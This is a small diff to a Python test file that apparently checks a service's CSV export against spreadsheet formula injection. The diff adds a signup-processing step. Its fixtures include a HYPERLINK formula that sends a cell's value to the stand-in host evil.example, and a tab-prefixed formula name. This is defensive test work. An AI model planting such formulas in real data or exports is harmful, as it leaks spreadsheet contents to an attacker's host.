@@ -18,7 +18,7 @@ from sqlalchemy import select
 from service.extensions import db
 from service.models import Subscriber
 from service.people_csv import neutralise_cell, restore_cell
-from tests.conftest import empty_database, log_in, seed_lists
+from tests.conftest import empty_database, log_in, process_signups, seed_lists
 
 HOSTILE_NAMES = {
     "hyperlink@seznam.cz": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
@@ -36,6 +36,7 @@ def sign_up_everyone(client) -> None:
         assert client.post("/subscribe", data={"email": email, "name": name}).status_code == 202
     # A tab before the formula: stripped from the name at sign-up, then `=1+1` is left.
     client.post("/subscribe", data={"email": "tab@seznam.cz", "name": "\t=1+1"})
+    process_signups()
 
 
 def cells(text: str) -> list[str]:
